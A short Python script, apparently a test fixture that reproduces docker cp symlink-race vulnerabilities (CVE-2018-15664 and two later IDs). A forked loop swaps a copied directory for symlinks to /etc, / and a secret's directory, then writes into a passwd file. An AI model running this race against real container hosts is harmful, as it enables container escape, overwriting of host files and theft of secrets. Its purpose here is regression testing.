"""CVE-2018-15664, -2026-41568, -2026-42306 (docker cp): a directory became a link while it was copied.

A survivor swaps a whole directory for a link to the host's, across the end; and more than one level of it.
"""

import os
import time

if os.fork() == 0:
    os.setsid()
    os.chdir("out")
    os.makedirs("results/deep")
    number = 0
    while True:
        os.rename("results", "aside")
        os.symlink("/etc", "results")
        os.unlink("results")
        os.symlink(os.path.dirname("@SECRET@"), "results")
        os.unlink("results")
        os.rename("aside", "results")
        os.rename("results/deep", "results/aside")
        os.symlink("/", "results/deep")
        os.unlink("results/deep")
        os.rename("results/aside", "results/deep")
        with open("results/deep/passwd", "w") as file:
            file.write("own")
        number += 1
        if number == 1:
            open("/tmp/going", "w").close()
while not os.path.exists("/tmp/going"):
    time.sleep(0.001)
with open("out/good.txt", "w") as file:
    file.write("good")
os._exit(0)
